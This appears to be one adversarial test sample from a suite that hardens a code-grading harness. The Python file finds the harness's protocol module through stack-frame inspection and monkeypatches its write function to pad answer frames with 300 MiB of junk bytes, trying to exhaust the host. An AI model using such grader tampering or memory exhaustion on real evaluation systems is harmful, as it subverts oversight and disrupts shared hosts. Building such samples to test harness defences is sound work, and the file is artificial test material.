"""Sends right answers in frames with 300 MiB of bytes that no value uses.

group: exhaust the host
target: einops
reference: before
tests: gives_each_head_its_slice
status: crashed
earns: less
holds: the answers of a test may take 512 MiB in all, and those of a whole problem are not kept.
"""

import sys

frame = sys._getframe()
while "protocol" not in frame.f_globals:
    frame = frame.f_back
protocol = frame.f_globals["protocol"]
written = protocol.write
MIB = bytes(2**20)


def padded(socket, buffers):
    head, body = protocol.HEADER.unpack(buffers[0])
    if b'"id"' in bytes(buffers[1]):
        buffers[0] = protocol.HEADER.pack(head, body + 300 * 2**20)
        buffers += [MIB] * 300
    written(socket, buffers)


protocol.write = padded
assert protocol.decode(b"7", memoryview(bytes(100))) == 7
